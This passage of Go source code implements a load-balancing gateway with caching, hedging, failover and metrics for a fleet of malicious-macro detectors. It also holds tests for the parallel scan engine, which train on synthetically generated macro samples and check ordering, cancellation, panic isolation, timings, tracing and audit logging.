		if tc.IsValid() {
			tc = tc.Child()
		} else {
			tc = telemetry.NewTraceContext()
		}
		w.Header().Set("traceparent", tc.Traceparent())
		sw := &statusWriter{ResponseWriter: w, status: http.StatusOK}
		ctx := context.WithValue(r.Context(), gwRequestIDKey{}, id)
		ctx = context.WithValue(ctx, gwTraceKey{}, tc)
		next.ServeHTTP(sw, r.WithContext(ctx))
		elapsed := time.Since(start)
		g.metrics.Requests.Add(r.Method+" "+r.URL.Path, 1)
		g.metrics.Responses.Add(statusClass(sw.status), 1)
		g.log.Info("request",
			"id", id,
			"trace_id", tc.TraceID,
			"method", r.Method,
			"path", r.URL.Path,
			"status", sw.status,
			"elapsed_ms", float64(elapsed.Nanoseconds())/1e6,
			"remote", r.RemoteAddr)
	})
}

type gwRequestIDKey struct{}
type gwTraceKey struct{}

func gwRequestID(ctx context.Context) string {
	id, _ := ctx.Value(gwRequestIDKey{}).(string)
	return id
}

func gwTrace(ctx context.Context) telemetry.TraceContext {
	tc, _ := ctx.Value(gwTraceKey{}).(telemetry.TraceContext)
	return tc
}

type statusWriter struct {
	http.ResponseWriter
	status int
}

func (w *statusWriter) WriteHeader(code int) {
	w.status = code
	w.ResponseWriter.WriteHeader(code)
}

func statusClass(code int) string {
	switch code / 100 {
	case 1:
		return "1xx"
	case 2:
		return "2xx"
	case 3:
		return "3xx"
	case 4:
		return "4xx"
	default:
		return "5xx"
	}
}

// gatewayScanResponse is the gateway's scan wire format: the daemon's
// ScanResponse with the report kept as raw JSON, so a proxied or cached
// answer carries the backend's report bytes verbatim (no re-marshal
// drift — the e2e identity check depends on this).
type gatewayScanResponse struct {
	RequestID   string          `json:"request_id,omitempty"`
	TraceID     string          `json:"trace_id,omitempty"`
	File        string          `json:"file"`
	NoMacros    bool            `json:"no_macros,omitempty"`
	Report      json.RawMessage `json:"report,omitempty"`
	Error       string          `json:"error,omitempty"`
	ErrorClass  string          `json:"error_class,omitempty"`
	Stages      json.RawMessage `json:"stage_ms,omitempty"`
	Cached      bool            `json:"cached,omitempty"`
	Backend     string          `json:"backend,omitempty"`
	SharedCache bool            `json:"shared_cache,omitempty"`
	ElapsedMS   float64         `json:"elapsed_ms"`
}

func (g *Gateway) handleScan(w http.ResponseWriter, r *http.Request) {
	start := time.Now()
	g.metrics.Scans.Add(1)
	body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, g.cfg.MaxBodyBytes))
	if err != nil {
		var maxErr *http.MaxBytesError
		if errors.As(err, &maxErr) {
			writeJSON(w, http.StatusRequestEntityTooLarge,
				map[string]string{"error": fmt.Sprintf("body exceeds %d byte limit", g.cfg.MaxBodyBytes)})
			return
		}
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": err.Error()})
		return
	}
	name := r.Header.Get("X-Filename")
	if name == "" {
		name = "document"
	}

	// Shared verdict tier: key = content hash salted with the fleet model
	// identity, so entries from a previous model can never answer. A hit
	// costs one hash and one lookup — no backend is touched at all.
	routeKey := cache.KeyOf(body)
	target := g.target.Load()
	var cacheKey cache.Key
	haveCacheKey := false
	if target != nil && g.verdicts != nil {
		cacheKey = cache.KeyOfSalted(identityKey(*target), body)
		haveCacheKey = true
		if v, ok := g.verdicts.Get(cacheKey); ok {
			resp := gatewayScanResponse{
				RequestID:   gwRequestID(r.Context()),
				TraceID:     gwTrace(r.Context()).TraceID,
				File:        name,
				NoMacros:    v.noMacros,
				Report:      v.report,
				Cached:      true,
				SharedCache: true,
				Backend:     v.backend,
				ElapsedMS:   float64(time.Since(start).Nanoseconds()) / 1e6,
			}
			g.metrics.RequestLatency.Observe(time.Since(start))
			writeJSON(w, http.StatusOK, resp)
			return
		}
	}

	ctx, cancel := context.WithTimeout(r.Context(), g.cfg.ScanTimeout)
	defer cancel()
	res, err := g.scanFleet(ctx, r, routeKey, name, body)
	switch {
	case err == nil:
	case errors.Is(err, ErrNoBackends):
		w.Header().Set("Retry-After", "1")
		writeJSON(w, http.StatusServiceUnavailable, map[string]string{"error": err.Error()})
		return
	case ctx.Err() != nil:
		writeJSON(w, http.StatusGatewayTimeout, map[string]string{"error": "fleet scan deadline exceeded"})
		return
	default:
		w.Header().Set("Retry-After", "1")
		writeJSON(w, http.StatusBadGateway, map[string]string{"error": err.Error()})
		return
	}

	if res.resp.status != http.StatusOK {
		// Definitive non-OK (422 malformed, 504 pipeline deadline, ...):
		// pass the backend's answer through untouched.
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		w.WriteHeader(res.resp.status)
		_, _ = w.Write(res.resp.body)
		return
	}
	var resp gatewayScanResponse
	if err := json.Unmarshal(res.resp.body, &resp); err != nil {
		writeJSON(w, http.StatusBadGateway,
			map[string]string{"error": "bad backend response: " + err.Error()})
		return
	}
	resp.RequestID = gwRequestID(r.Context())
	resp.TraceID = gwTrace(r.Context()).TraceID
	resp.Backend = res.backend.name
	if haveCacheKey && resp.Error == "" && len(resp.Report) > 0 && !reportDegraded(resp.Report) {
		// Only populate the shared tier while the serving backend matches
		// the fleet target — mid-rollout, a not-yet-reloaded backend's
		// verdict must not be cached under the new identity's salt.
		if _, _, id, has := res.backend.snapshot(); has && target != nil && identityKey(id) == identityKey(*target) {
			g.verdicts.Put(cacheKey, sharedVerdict{
				report:   append(json.RawMessage(nil), resp.Report...),
				noMacros: resp.NoMacros,
				backend:  res.backend.name,
			}, int64(len(resp.Report))+64)
		}
	}
	resp.ElapsedMS = float64(time.Since(start).Nanoseconds()) / 1e6
	g.metrics.RequestLatency.Observe(time.Since(start))
	writeJSON(w, http.StatusOK, resp)
}

// reportDegraded peeks at the raw report for "degraded": degraded
// verdicts are never cached (same poisoning guard as the daemon's
// DocCache).
func reportDegraded(raw json.RawMessage) bool {
	var probe struct {
		Degraded bool `json:"degraded"`
	}
	if err := json.Unmarshal(raw, &probe); err != nil {
		return true // unparsable: don't cache
	}
	return probe.Degraded
}

// backendResponse is one fully-read upstream answer.
type backendResponse struct {
	status int
	header http.Header
	body   []byte
}

// attemptResult is one backend attempt's outcome.
type attemptResult struct {
	backend *backend
	resp    *backendResponse
	err     error // transport-level failure
	hedged  bool  // launched by the hedge timer, not as primary
	elapsed time.Duration
}

// retryable reports whether another backend should be tried: transport
// errors and upstream saturation/unavailability (429, 500, 502, 503) fail
// over; everything else — including 422 document faults and 504 pipeline
// deadlines — is a property of the document, not the node, and passes
// through.
func (a attemptResult) retryable() bool {
	if a.err != nil {
		return true
	}
	switch a.resp.status {
	case http.StatusTooManyRequests, http.StatusInternalServerError,
		http.StatusBadGateway, http.StatusServiceUnavailable:
		return true
	}
	return false
}

// scanFleet routes one document: primary by ring order (bounded-load),
// hedged to the next ring node after the hedge budget, failing over on
// retryable outcomes until MaxAttempts distinct backends have been tried.
func (g *Gateway) scanFleet(ctx context.Context, r *http.Request, routeKey cache.Key,
	name string, body []byte) (attemptResult, error) {
	order := g.routeOrder(routeKey)
	if len(order) == 0 {
		return attemptResult{}, ErrNoBackends
	}
	if len(order) > g.cfg.MaxAttempts {
		order = order[:g.cfg.MaxAttempts]
	}
	actx, cancel := context.WithCancel(ctx)
	defer cancel()
	results := make(chan attemptResult, len(order))
	launch := func(b *backend, hedged bool) {
		b.inflight.Add(1)
		b.routed.Add(1)
		g.metrics.Routed.Add(b.name, 1)
		go func() {
			defer b.inflight.Add(-1)
			started := time.Now()
			resp, err := g.forwardScan(actx, r, b, name, body)
			results <- attemptResult{backend: b, resp: resp, err: err,
				hedged: hedged, elapsed: time.Since(started)}
		}()
	}
	launch(order[0], false)
	next := 1
	var hedgeC <-chan time.Time
	if d := g.hedgeDelay(); d >= 0 && next < len(order) {
		t := time.NewTimer(d)
		defer t.Stop()
		hedgeC = t.C
	}
	pending := 1
	var last attemptResult
	for {
		select {
		case res := <-results:
			pending--
			if res.err == nil && !res.retryable() {
				g.lat.observe(res.elapsed)
				g.metrics.UpstreamLatency.Observe(res.elapsed)
				if res.hedged {
					g.metrics.HedgeWins.Add(1)
				}
				return res, nil
			}
			g.noteFailure(res)
			last = res
			if next < len(order) {
				g.metrics.Failovers.Add(1)
				launch(order[next], false)
				next++
				pending++
			} else if pending == 0 {
				if last.err != nil {
					return attemptResult{}, fmt.Errorf("fleet: all backends failed: %w", last.err)
				}
				// Saturation everywhere: surface the last upstream answer
				// (429/503 with its Retry-After) rather than inventing one.
				return last, nil
			}
		case <-hedgeC:
			hedgeC = nil
			if next < len(order) {
				g.metrics.Hedges.Add(1)
				launch(order[next], true)
				next++
				pending++
			}
		case <-ctx.Done():
			return attemptResult{}, ctx.Err()
		}
	}
}

// noteFailure applies a failed attempt's side effects: Retry-After honor
// and failure accounting.
func (g *Gateway) noteFailure(res attemptResult) {
	if res.err != nil {
		g.log.Warn("backend attempt failed", "backend", res.backend.name, "error", res.err.Error())
		res.backend.setState(stateUnhealthy, res.err.Error())
		return
	}
	if d := res.backend.honorRetryAfter(res.resp.header, time.Now()); d > 0 {
		g.metrics.RetryAfterBackoffs.Add(1)
		g.log.Info("honoring Retry-After", "backend", res.backend.name, "backoff", d.String())
	}
}

// forwardScan proxies one scan to one backend, propagating the gateway's
// trace context (the backend's span becomes a child of the gateway's) and
// the caller's filename and content type.
func (g *Gateway) forwardScan(ctx context.Context, r *http.Request, b *backend,
	name string, body []byte) (*backendResponse, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, b.base+"/v1/scan", bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	ct := r.Header.Get("Content-Type")
	if ct == "" {
		ct = "application/octet-stream"
	}
	req.Header.Set("Content-Type", ct)
	req.Header.Set("X-Filename", name)
	req.Header.Set("X-Request-ID", gwRequestID(r.Context()))
	if tc := gwTrace(r.Context()); tc.IsValid() {
		req.Header.Set("traceparent", tc.Traceparent())
	}
	resp, err := g.scanClient.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(io.LimitReader(resp.Body, g.cfg.MaxBodyBytes))
	if err != nil {
		return nil, err
	}
	return &backendResponse{status: resp.StatusCode, header: resp.Header, body: data}, nil
}

// routeOrder resolves the attempt order for a key: ring candidates
// filtered to routable backends first (with the bounded-load rotation),
// then unprobed/unhealthy backends as a last resort. Skewed, rolling and
// draining backends are never candidates — routing to them would produce
// wrong-model verdicts or guaranteed 503s.
func (g *Gateway) routeOrder(key cache.Key) []*backend {
	names := g.ring.Candidates(key, len(g.backends))
	now := time.Now()
	routable := make([]*backend, 0, len(names))
	var fallback []*backend
	for _, n := range names {
		b := g.byName[n]
		if b.routable(now) {
			routable = append(routable, b)
			continue
		}
		switch st, _, _, _ := b.snapshot(); st {
		case stateUnknown, stateUnhealthy:
			fallback = append(fallback, b)
		}
	}
	if g.cfg.LoadBoundFactor > 0 && len(routable) > 1 {
		var total int64
		for _, b := range routable {
			total += b.inflight.Load()
		}
		bound := int64(math.Ceil(g.cfg.LoadBoundFactor * float64(total+1) / float64(len(routable))))
		for i, b := range routable {
			if b.inflight.Load() < bound {
				if i > 0 {
					// Rotate the first under-bound candidate to the front;
					// the rest keep ring order for hedging/failover.
					head := routable[i]
					copy(routable[1:i+1], routable[:i])
					routable[0] = head
					g.metrics.LoadSkips.Add(1)
				}
				break
			}
		}
	}
	return append(routable, fallback...)
}

// hedgeDelay resolves the hedge budget: the configured fixed value, or
// the rolling p95 of recent successful upstream latencies clamped to
// [10ms, 2s] (100ms until enough samples). Negative disables hedging.
func (g *Gateway) hedgeDelay() time.Duration {
	if g.cfg.HedgeAfter != 0 {
		return g.cfg.HedgeAfter
	}
	return g.lat.p95()
}

// latencyTracker keeps a small ring of recent upstream latencies for the
// adaptive hedge budget.
type latencyTracker struct {
	mu  sync.Mutex
	buf [256]time.Duration
	n   int
}

func (l *latencyTracker) observe(d time.Duration) {
	l.mu.Lock()
	l.buf[l.n%len(l.buf)] = d
	l.n++
	l.mu.Unlock()
}

func (l *latencyTracker) p95() time.Duration {
	l.mu.Lock()
	filled := l.n
	if filled > len(l.buf) {
		filled = len(l.buf)
	}
	if filled < 20 {
		l.mu.Unlock()
		return 100 * time.Millisecond
	}
	tmp := make([]time.Duration, filled)
	copy(tmp, l.buf[:filled])
	l.mu.Unlock()
	sort.Slice(tmp, func(i, j int) bool { return tmp[i] < tmp[j] })
	p := tmp[(filled*95)/100]
	if p < 10*time.Millisecond {
		p = 10 * time.Millisecond
	}
	if p > 2*time.Second {
		p = 2 * time.Second
	}
	return p
}

// handleModel reports the fleet target identity — the same shape as a
// backend's /v1/model, so gateways compose.
func (g *Gateway) handleModel(w http.ResponseWriter, r *http.Request) {
	target := g.target.Load()
	if target == nil {
		w.Header().Set("Retry-After", "1")
		writeJSON(w, http.StatusServiceUnavailable, map[string]string{"error": "fleet target not resolved yet"})
		return
	}
	writeJSON(w, http.StatusOK, *target)
}

func (g *Gateway) handleHealthz(w http.ResponseWriter, r *http.Request) {
	backends := map[string]any{}
	routableCount := 0
	now := time.Now()
	for _, b := range g.backends {
		st, reason, id, has := b.snapshot()
		entry := map[string]any{
			"state":    st.String(),
			"inflight": b.inflight.Load(),
			"routed":   b.routed.Load(),
		}
		if reason != "" {
			entry["reason"] = reason
		}
		if has {
			entry["model"] = shortSHA(id.ModelSHA256)
			entry["feature_set"] = id.FeatureSet
		}
		if b.routable(now) {
			routableCount++
		}
		backends[b.name] = entry
	}
	status := "ok"
	if routableCount == 0 {
		status = "no routable backends"
	}
	resp := map[string]any{
		"status":   status,
		"backends": backends,
		"routable": routableCount,
	}
	if t := g.target.Load(); t != nil {
		resp["target"] = map[string]string{
			"model_sha256": t.ModelSHA256,
			"feature_set":  t.FeatureSet,
		}
	}
	if g.verdicts != nil {
		st := g.verdicts.Stats()
		resp["shared_cache"] = map[string]any{
			"hits": st.Hits, "misses": st.Misses, "entries": st.Entries,
			"hit_ratio": gatewayHitRatio(st),
		}
	}
	writeJSON(w, http.StatusOK, resp)
}

func (g *Gateway) handleReadyz(w http.ResponseWriter, r *http.Request) {
	now := time.Now()
	for _, b := range g.backends {
		if b.routable(now) {
			writeJSON(w, http.StatusOK, map[string]string{"status": "ready"})
			return
		}
	}
	w.Header().Set("Retry-After", "1")
	writeJSON(w, http.StatusServiceUnavailable, map[string]string{"status": "no routable backends"})
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(v)
}

// gatewayHitRatio mirrors the daemon's hit-ratio derivation.
func gatewayHitRatio(st cache.Stats) float64 {
	total := st.Hits + st.Misses
	if total == 0 {
		return 0
	}
	return float64(st.Hits) / float64(total)
}

// gatewayMetrics is the gateway's own instrument tree (backend families
// are merged in by handleMetrics with a backend label).
type gatewayMetrics struct {
	reg *telemetry.Registry

	Requests  *telemetry.LabeledCounter
	Responses *telemetry.LabeledCounter
	Scans     *telemetry.Counter
	Routed    *telemetry.LabeledCounter

	Hedges             *telemetry.Counter
	HedgeWins          *telemetry.Counter
	Failovers          *telemetry.Counter
	RetryAfterBackoffs *telemetry.Counter
	LoadSkips          *telemetry.Counter
	SkewRefusals       *telemetry.Counter
	ScrapeErrors       *telemetry.Counter

	RequestLatency  *telemetry.Histogram
	UpstreamLatency *telemetry.Histogram
}

func newGatewayMetrics(g *Gateway) *gatewayMetrics {
	r := telemetry.NewRegistry()
	m := &gatewayMetrics{reg: r}
	m.Requests = r.LabeledCounter("fleet_requests", "Gateway HTTP requests by endpoint.", "endpoint")
	m.Responses = r.LabeledCounter("fleet_responses", "Gateway HTTP responses by status class.", "class")
	m.Scans = r.Counter("fleet_scans", "Scan requests accepted by the gateway.")
	m.Routed = r.LabeledCounter("fleet_backend_routed", "Scan attempts routed per backend.", "backend")
	m.Hedges = r.Counter("fleet_hedges", "Hedged second requests fired after the hedge budget.")
	m.HedgeWins = r.Counter("fleet_hedge_wins", "Scans won by the hedged request instead of the primary.")
	m.Failovers = r.Counter("fleet_failovers", "Attempts moved to the next ring node after a retryable failure.")
	m.RetryAfterBackoffs = r.Counter("fleet_retry_after_backoffs", "Backend backoffs honored from Retry-After hints.")
	m.LoadSkips = r.Counter("fleet_load_skips", "Primary selections moved past an over-bound backend (bounded-load).")
	m.SkewRefusals = r.Counter("fleet_skew_refusals", "Backends demoted for model/feature-set skew against the fleet target.")
	m.ScrapeErrors = r.Counter("fleet_scrape_errors", "Backend metric scrapes that failed during aggregation.")
	m.RequestLatency = r.Histogram("fleet_request_seconds", "Whole-request gateway scan latency.", nil)
	m.UpstreamLatency = r.Histogram("fleet_upstream_seconds", "Winning backend attempt latency.", nil)
	r.LabeledGaugeFunc("fleet_backend_healthy",
		"Backend routability (1 = routable, 0 = not), per backend.",
		"backend", func() ([]string, []float64) {
			now := time.Now()
			names := make([]string, len(g.backends))
			vals := make([]float64, len(g.backends))
			for i, b := range g.backends {
				names[i] = b.name
				if b.routable(now) {
					vals[i] = 1
				}
			}
			return names, vals
		})
	r.LabeledGaugeFunc("fleet_backend_inflight",
		"Requests currently proxied to each backend.",
		"backend", func() ([]string, []float64) {
			names := make([]string, len(g.backends))
			vals := make([]float64, len(g.backends))
			for i, b := range g.backends {
				names[i] = b.name
				vals[i] = float64(b.inflight.Load())
			}
			return names, vals
		})
	if g.verdicts != nil {
		g.verdicts.RegisterMetrics(r, "fleet_verdict_cache")
		r.GaugeFunc("fleet_verdict_cache_hit_ratio",
			"Lifetime shared verdict tier hit ratio (hits / lookups).",
			func() float64 { return gatewayHitRatio(g.verdicts.Stats()) })
	}
	r.InfoFunc("vbadetectgw_build_info",
		"Gateway build identity as labels; value is always 1.",
		func() map[string]string {
			info := map[string]string{"go_version": runtime.Version()}
			if t := g.target.Load(); t != nil {
				info["fleet_model"] = t.ModelSHA256
				info["fleet_feature_set"] = t.FeatureSet
			}
			return info
		})
	r.RegisterGoRuntime()
	return m
}

// Metrics exposes the gateway's registry (tests and embedders).
func (g *Gateway) Metrics() *telemetry.Registry { return g.metrics.reg }
