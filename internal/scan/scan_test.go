package scan

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/cfb"
	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/extract"
	"repro/internal/telemetry"
)

// testFixture builds a trained detector and a packaged document corpus
// once for the whole test file.
var testFixture = struct {
	once sync.Once
	det  *core.Detector
	docs []Document
	err  error
}{}

func fixture(t *testing.T) (*core.Detector, []Document) {
	t.Helper()
	testFixture.once.Do(func() {
		spec := corpus.SmallSpec()
		spec.BenignMacros, spec.BenignObfuscated = 120, 20
		spec.MaliciousMacros, spec.MaliciousObfuscated = 60, 55
		spec.BenignMaxLen = 4000
		d := corpus.GenerateMacros(spec)
		det, err := core.NewDetector(core.AlgoRF, core.FeatureSetV, 7)
		if err != nil {
			testFixture.err = err
			return
		}
		if err := det.Train(d.Sources(), d.Labels()); err != nil {
			testFixture.err = err
			return
		}
		files, err := d.BuildFiles()
		if err != nil {
			testFixture.err = err
			return
		}
		docs := make([]Document, len(files))
		for i, f := range files {
			docs[i] = Document{Name: f.Name, Data: f.Data}
		}
		testFixture.det = det
		testFixture.docs = docs
	})
	if testFixture.err != nil {
		t.Fatal(testFixture.err)
	}
	return testFixture.det, testFixture.docs
}

// TestScanAllMatchesSequential asserts the parallel engine produces
// exactly the verdicts of sequential Detector.ScanFile calls, in input
// order.
func TestScanAllMatchesSequential(t *testing.T) {
	det, docs := fixture(t)
	engine := New(det, 8)
	results, stats, err := engine.ScanAll(context.Background(), docs)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != len(docs) {
		t.Fatalf("results = %d, want %d", len(results), len(docs))
	}
	if stats.Files != int64(len(docs)) {
		t.Errorf("stats.Files = %d, want %d", stats.Files, len(docs))
	}
	if stats.WallNS <= 0 {
		t.Error("stats.WallNS not set")
	}
	macros := int64(0)
	for i, r := range results {
		if r.Index != i || r.Name != docs[i].Name {
			t.Fatalf("result %d out of order: index %d name %q", i, r.Index, r.Name)
		}
		want, werr := det.ScanFile(docs[i].Data)
		if (r.Err == nil) != (werr == nil) {
			t.Fatalf("%s: err %v vs sequential %v", r.Name, r.Err, werr)
		}
		if r.Err != nil {
			continue
		}
		macros += int64(len(r.Report.Macros))
		if len(r.Report.Macros) != len(want.Macros) {
			t.Fatalf("%s: %d macros vs sequential %d", r.Name, len(r.Report.Macros), len(want.Macros))
		}
		for k := range want.Macros {
			got, exp := r.Report.Macros[k], want.Macros[k]
			if got.Module != exp.Module || got.Obfuscated != exp.Obfuscated || got.Score != exp.Score {
				t.Fatalf("%s macro %d: %+v vs sequential %+v", r.Name, k, got, exp)
			}
		}
	}
	if stats.Macros != macros {
		t.Errorf("stats.Macros = %d, want %d", stats.Macros, macros)
	}
}

// TestScanStream exercises the streaming API end to end.
func TestScanStream(t *testing.T) {
	det, docs := fixture(t)
	engine := New(det, 4)
	in := make(chan Document)
	go func() {
		defer close(in)
		for _, d := range docs {
			in <- d
		}
	}()
	out, stats := engine.Scan(context.Background(), in)
	seen := make(map[int]bool)
	for r := range out {
		if seen[r.Index] {
			t.Fatalf("index %d delivered twice", r.Index)
		}
		seen[r.Index] = true
		if r.Err == nil && r.Report == nil {
			t.Fatalf("result %d has neither report nor error", r.Index)
		}
	}
	if len(seen) != len(docs) {
		t.Fatalf("delivered %d results, want %d", len(seen), len(docs))
	}
	if stats.Files != int64(len(docs)) {
		t.Errorf("stats.Files = %d, want %d", stats.Files, len(docs))
	}
	if stats.FilesPerSec() <= 0 {
		t.Error("FilesPerSec not positive after drain")
	}
}

// TestScanCancellation asserts workers drain promptly when the context is
// canceled mid-stream: the result channel closes even though the input
// channel stays open and unconsumed.
func TestScanCancellation(t *testing.T) {
	det, docs := fixture(t)
	engine := New(det, 2)
	ctx, cancel := context.WithCancel(context.Background())
	in := make(chan Document) // never closed: only cancellation can end the scan
	go func() {
		for i := 0; ; i++ {
			select {
			case in <- docs[i%len(docs)]:
			case <-ctx.Done():
				return
			}
		}
	}()
	out, _ := engine.Scan(ctx, in)
	// Consume a few results to prove the pipeline is flowing, then cancel.
	for i := 0; i < 3; i++ {
		if _, ok := <-out; !ok {
			t.Fatal("result channel closed before cancellation")
		}
	}
	cancel()
	deadline := time.After(10 * time.Second)
	for {
		select {
		case _, ok := <-out:
			if !ok {
				return // drained promptly
			}
		case <-deadline:
			t.Fatal("workers did not drain within 10s of cancellation")
		}
	}
}

// TestScanAllCancellation asserts ScanAll returns the context error when
// canceled before completion.
func TestScanAllCancellation(t *testing.T) {
	det, docs := fixture(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, _, err := New(det, 2).ScanAll(ctx, docs)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

// TestScanErrorsCounted asserts per-document failures land in results and
// stats, not in the call error.
func TestScanErrorsCounted(t *testing.T) {
	det, _ := fixture(t)
	docs := []Document{{Name: "empty.doc", Data: nil}, {Name: "junk.doc", Data: []byte("not an OLE file")}}
	results, stats, err := New(det, 2).ScanAll(context.Background(), docs)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Errors != 2 {
		t.Errorf("stats.Errors = %d, want 2", stats.Errors)
	}
	for _, r := range results {
		if r.Err == nil {
			t.Errorf("%s: expected an error", r.Name)
		}
	}
}

// TestWorkersDefault asserts New clamps non-positive worker counts.
func TestWorkersDefault(t *testing.T) {
	det, _ := fixture(t)
	if w := New(det, 0).Workers(); w < 1 {
		t.Errorf("workers = %d", w)
	}
	if w := New(det, -3).Workers(); w < 1 {
		t.Errorf("workers = %d", w)
	}
	if w := New(det, 5).Workers(); w != 5 {
		t.Errorf("workers = %d, want 5", w)
	}
}

// TestScanOnePanicIsolation asserts a panic inside the pipeline surfaces
// as a *PanicError instead of crashing: scanning through a nil detector
// trips a nil dereference inside ScanOne's guarded region.
func TestScanOnePanicIsolation(t *testing.T) {
	_, _, err := ScanOne(nil, []byte("anything"))
	var pe *PanicError
	if !errors.As(err, &pe) {
		t.Fatalf("err = %v, want *PanicError", err)
	}
	if len(pe.Stack) == 0 {
		t.Error("PanicError has no stack")
	}
	if pe.Error() == "" {
		t.Error("PanicError has empty message")
	}
}

// TestEnginePanicIsolation asserts a worker panic is contained to its
// document: the batch completes and the poisoned document reports a
// *PanicError.
func TestEnginePanicIsolation(t *testing.T) {
	docs := []Document{{Name: "poison.doc", Data: []byte("x")}}
	results, stats, err := New(nil, 1).ScanAll(context.Background(), docs)
	if err != nil {
		t.Fatal(err)
	}
	var pe *PanicError
	if !errors.As(results[0].Err, &pe) {
		t.Fatalf("err = %v, want *PanicError", results[0].Err)
	}
	if stats.Errors != 1 {
		t.Errorf("stats.Errors = %d, want 1", stats.Errors)
	}
}

// TestResultTimings asserts per-document stage timings are exported on
// each Result.
func TestResultTimings(t *testing.T) {
	det, docs := fixture(t)
	results, _, err := New(det, 2).ScanAll(context.Background(), docs[:4])
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range results {
		if r.Err == nil && r.Timings.ExtractNS <= 0 {
			t.Errorf("%s: ExtractNS = %d, want > 0", r.Name, r.Timings.ExtractNS)
		}
	}
}

// TestNoMacrosIsError documents that macro-free files surface
// extract.ErrNoMacros per document.
func TestNoMacrosIsError(t *testing.T) {
	det, _ := fixture(t)
	b := cfb.NewBuilder()
	if err := b.AddStream("WordDocument", []byte("x")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	results, _, err := New(det, 1).ScanAll(context.Background(),
		[]Document{{Name: "plain.doc", Data: raw}})
	if err != nil {
		t.Fatal(err)
	}
	if !errors.Is(results[0].Err, extract.ErrNoMacros) {
		t.Fatalf("err = %v, want ErrNoMacros", results[0].Err)
	}
}

// TestTimingsAccumulateAcrossRetries asserts Result.Timings sums the
// stage time of every attempt, matching the per-stage totals in Stats.
func TestTimingsAccumulateAcrossRetries(t *testing.T) {
	det, _ := fixture(t)
	engine := New(det, 1)
	engine.SetPolicy(Policy{
		MaxRetries:   2,
		RetryBackoff: time.Millisecond,
		Retryable:    func(error) bool { return true },
	})
	docs := []Document{{Name: "junk.doc", Data: []byte("not an OLE file")}}
	results, stats, err := engine.ScanAll(context.Background(), docs)
	if err != nil {
		t.Fatal(err)
	}
	r := results[0]
	if r.Err == nil {
		t.Fatal("junk document scanned cleanly")
	}
	if r.Attempts != 3 {
		t.Fatalf("attempts = %d, want 3", r.Attempts)
	}
	if stats.Retries != 2 {
		t.Errorf("stats.Retries = %d, want 2", stats.Retries)
	}
	// Stats accumulates per-attempt stage time; with a single document the
	// Result must carry the same accumulated total, not the last attempt.
	if r.Timings.ExtractNS != stats.ExtractNS {
		t.Errorf("Result.Timings.ExtractNS = %d, stats = %d; result dropped earlier attempts",
			r.Timings.ExtractNS, stats.ExtractNS)
	}
}

// TestEngineTraceSink asserts the engine emits one finished span tree per
// document, with the pipeline stages as children.
func TestEngineTraceSink(t *testing.T) {
	det, docs := fixture(t)
	engine := New(det, 4)
	var mu sync.Mutex
	var traces []*telemetry.Trace
	engine.SetTraceSink(func(tr *telemetry.Tracer) {
		mu.Lock()
		traces = append(traces, tr.Trace())
		mu.Unlock()
	})
	if _, _, err := engine.ScanAll(context.Background(), docs[:4]); err != nil {
		t.Fatal(err)
	}
	if len(traces) != 4 {
		t.Fatalf("traces = %d, want 4", len(traces))
	}
	sawMacro := false
	for _, tr := range traces {
		if tr.Root == nil || tr.Root.Name != "scan" || tr.Root.DurNS <= 0 {
			t.Fatalf("%s: malformed root span %+v", tr.Doc, tr.Root)
		}
		var extractSpan *telemetry.Span
		for _, c := range tr.Root.Children {
			if c.Name == "extract" {
				extractSpan = c
			}
			if strings.HasPrefix(c.Name, "macro:") {
				sawMacro = true
				names := map[string]bool{}
				for _, g := range c.Children {
					names[g.Name] = true
				}
				if !names["featurize"] || !names["classify"] {
					t.Errorf("%s: macro span children = %v", tr.Doc, names)
				}
			}
		}
		if extractSpan == nil || extractSpan.DurNS <= 0 {
			t.Errorf("%s: no extract span with non-zero duration", tr.Doc)
		}
	}
	if !sawMacro {
		t.Error("no document produced a macro span")
	}
}

// TestEngineAudit asserts every scanned document lands in the audit log
// with its hash, vectors and timing fields filled in.
func TestEngineAudit(t *testing.T) {
	det, docs := fixture(t)
	engine := New(det, 4)
	var buf syncBuffer
	engine.SetAudit(telemetry.NewAuditLogger(&buf, telemetry.AuditConfig{}))
	results, _, err := engine.ScanAll(context.Background(), docs[:4])
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 4 {
		t.Fatalf("audit lines = %d, want 4", len(lines))
	}
	byDoc := map[string]telemetry.AuditEvent{}
	for _, line := range lines {
		var ev telemetry.AuditEvent
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatalf("audit line invalid: %v", err)
		}
		byDoc[ev.Doc] = ev
	}
	for _, r := range results {
		ev, ok := byDoc[r.Name]
		if !ok {
			t.Fatalf("%s missing from audit log", r.Name)
		}
		if ev.SHA256 != HashDocument(docs[r.Index].Data) || len(ev.SHA256) != 64 {
			t.Errorf("%s: bad content hash %q", r.Name, ev.SHA256)
		}
		if ev.Attempts < 1 || ev.ExtractNS <= 0 {
			t.Errorf("%s: attempts/timings not recorded: %+v", r.Name, ev)
		}
		if r.Err == nil {
			if ev.FeatureSet != "V" || len(ev.Macros) != len(r.Report.Macros) {
				t.Errorf("%s: audit macros = %d, want %d", r.Name, len(ev.Macros), len(r.Report.Macros))
			}
			for _, m := range ev.Macros {
				if len(m.Features) != core.FeatureSetV.Dim() {
					t.Errorf("%s/%s: feature vector dim %d", r.Name, m.Module, len(m.Features))
				}
			}
